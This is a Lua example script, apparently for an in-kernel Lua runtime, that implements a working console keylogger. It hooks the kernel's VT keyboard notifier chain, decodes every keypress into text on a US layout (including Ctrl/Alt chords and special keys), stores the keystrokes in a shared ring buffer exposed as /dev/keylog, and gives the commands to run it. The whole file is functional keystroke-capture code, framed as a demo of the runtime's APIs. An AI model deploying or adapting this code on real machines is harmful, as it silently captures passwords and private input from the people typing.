-- keylogger.lua: logs every key pressed on the consoles (the VT keyboard
-- notifier chain) into the rcu table "shared:keylog": printable characters
-- as typed on a US layout (shift applied), other keys as <NAME> (<ENTER>,
-- <BACKSPACE>, <UP>, ...), Ctrl/Alt chords as <CTRL+c>. Modifiers alone are
-- not logged. examples/keylogdev.lua serves it as /dev/keylog. The keyboard
-- chain runs with interrupts off: this runtime is context=hardirq.
-- Try it: moontide run examples/keylogger.lua context=hardirq
--         moontide run examples/keylogdev.lua; (type on a console); cat /dev/keylog
local notifier = require("notifier")
local rcu = require("rcu")

local RING <const> = 256 -- keys kept until read
local SHIFT <const>, CTRL <const>, ALT <const> = 1, 4, 8 -- KG_* bits of 'shift'

local log = rcu.table("shared:keylog", RING + 1)

-- linux/input-event-codes.h: the US layout's rows, unshifted and shifted
local chars, shifted = {}, {}
local function row(first, plain, shift)
  for i = 1, #plain do
    chars[first + i - 1] = plain:sub(i, i)
    shifted[first + i - 1] = shift:sub(i, i)
  end
end
row(2, "1234567890-=", "!@#$%^&*()_+")
row(16, "qwertyuiop[]", "QWERTYUIOP{}")
row(30, "asdfghjkl;'`", "ASDFGHJKL:\"~")
row(43, "\\zxcvbnm,./", "|ZXCVBNM<>?")
chars[57], shifted[57] = " ", " "
local names = {[1] = "ESC", [14] = "BACKSPACE", [15] = "TAB", [28] = "ENTER",
  [58] = "CAPSLOCK", [96] = "KPENTER", [102] = "HOME", [103] = "UP",
  [104] = "PAGEUP", [105] = "LEFT", [106] = "RIGHT", [107] = "END",
  [108] = "DOWN", [109] = "PAGEDOWN", [110] = "INSERT", [111] = "DELETE"}
for i = 1, 10 do names[58 + i] = "F" .. i end
local modifiers = {[29] = true, [42] = true, [54] = true, [56] = true,
  [97] = true, [100] = true, [125] = true, [126] = true}

local function text(code, shift)
  if modifiers[code] then return nil end
  local c = chars[code]
  if c and shift & (CTRL | ALT) ~= 0 then
    return string.format("<%s+%s>", shift & CTRL ~= 0 and "CTRL" or "ALT", c)
  end
  if c then return shift & SHIFT ~= 0 and shifted[code] or c end
  return "<" .. (names[code] or ("KEY" .. code)) .. ">"
end

notifier.keyboard(function(event, code, down, shift)
  if event ~= "keycode" or down == 0 then return end -- presses and repeats
  local t = text(code, shift)
  if t then
    local seq = (log.next or 0) + 1
    log[seq % RING] = t
    log.next = seq
  end
end)
